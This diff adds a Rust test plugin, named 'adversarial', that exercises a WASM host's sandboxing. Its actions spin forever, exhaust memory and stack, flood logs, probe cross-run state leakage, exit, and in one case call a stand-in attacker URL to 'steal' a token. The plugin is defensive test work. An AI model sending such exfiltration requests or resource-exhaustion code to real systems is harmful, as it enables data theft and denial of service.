@@ -1,0 +1,143 @@
+//! Misbehaving actions: each must be contained by the host with the right
+//! typed error, and the host must keep serving.
+
+use std::hint::black_box;
+use std::sync::atomic::{AtomicU64, Ordering};
+
+use workway_sdk::prelude::*;
+
+/// No input.
+#[derive(Deserialize, JsonSchema)]
+pub struct Nothing {}
+
+/// No output.
+#[derive(Serialize, JsonSchema)]
+pub struct Never {}
+
+/// Loop forever without calling the host.
+#[action]
+fn spin(_input: Nothing) -> Result<Never> {
+    let mut x: u64 = 0;
+    loop {
+        x = black_box(x.wrapping_add(1));
+    }
+}
+
+/// Sleep for a minute (blocks in a WASI host call).
+#[action]
+fn sleep(_input: Nothing) -> Result<Never> {
+    std::thread::sleep(std::time::Duration::from_secs(60));
+    Ok(Never {})
+}
+
+/// Call an upstream that answers slowly (blocks in the `http` host call).
+#[action]
+fn slow_upstream(_input: Nothing) -> Result<Never> {
+    http::get("https://slow.example.com/").send()?;
+    Ok(Never {})
+}
+
+/// Call a host that is not approved.
+#[action]
+fn exfiltrate(_input: Nothing) -> Result<Never> {
+    http::get("https://attacker.example.net/steal?token=x").send()?;
+    Ok(Never {})
+}
+
+/// Allocate until something gives.
+#[action]
+fn grow_memory(_input: Nothing) -> Result<Never> {
+    let mut hoard: Vec<Vec<u8>> = Vec::new();
+    loop {
+        hoard.push(black_box(vec![1u8; 1 << 20]));
+    }
+}
+
+fn recurse(depth: u64) -> u64 {
+    if black_box(depth) == u64::MAX {
+        return 0;
+    }
+    black_box(recurse(depth + 1)).wrapping_add(1)
+}
+
+/// Recurse without bound.
+#[action]
+fn recurse_forever(_input: Nothing) -> Result<Never> {
+    black_box(recurse(0));
+    Ok(Never {})
+}
+
+/// Panic.
+#[action]
+fn panic(_input: Nothing) -> Result<Never> {
+    panic!("the plugin gave up");
+}
+
+/// A huge blob.
+#[derive(Serialize, JsonSchema)]
+pub struct Blob {
+    /// Many bytes.
+    pub data: String,
+}
+
+/// Return 8 MiB of output.
+#[action]
+fn huge_output(_input: Nothing) -> Result<Blob> {
+    Ok(Blob {
+        data: "x".repeat(8 << 20),
+    })
+}
+
+/// Write far more log lines than the host keeps, through the log import
+/// and through stdout and stderr.
+#[action]
+fn flood_logs(_input: Nothing) -> Result<Never> {
+    let line = "flood ".repeat(20);
+    for i in 0..20_000 {
+        log::info(format!("{i} {line}"));
+        println!("{i} {line}");
+        eprintln!("{i} {line}");
+    }
+    Ok(Never {})
+}
+
+static COUNTER: AtomicU64 = AtomicU64::new(0);
+static mut SCRATCH: [u8; 64] = [0; 64];
+
+/// What a previous execution left behind.
+#[derive(Serialize, JsonSchema)]
+pub struct Leftovers {
+    /// The counter after this execution's increment: 1 if nothing survived.
+    pub counter: u64,
+    /// Whether scratch memory still held the previous execution's marker.
+    pub saw_marker: bool,
+}
+
+/// Increment a global counter and leave a marker in static memory, then
+/// report what the previous execution left behind.
+#[action]
+fn leftovers(_input: Nothing) -> Result<Leftovers> {
+    let counter = COUNTER.fetch_add(1, Ordering::SeqCst) + 1;
+    #[allow(unsafe_code)]
+    let saw_marker = unsafe {
+        let scratch = &mut *std::ptr::addr_of_mut!(SCRATCH);
+        let seen = scratch[0] == 0xAB;
+        scratch[0] = 0xAB;
+        seen
+    };
+    Ok(Leftovers {
+        counter,
+        saw_marker,
+    })
+}
+
+/// Call `exit(3)` from inside an action (WASI 0.2 reports it as a failed exit).
+#[action]
+fn exit(_input: Nothing) -> Result<Never> {
+    std::process::exit(3);
+}
+
+workway_sdk::integration! {
+    name: "adversarial",
+    actions: [spin, sleep, slow_upstream, exfiltrate, grow_memory, recurse_forever, panic, huge_output, flood_logs, leftovers, exit],
+}
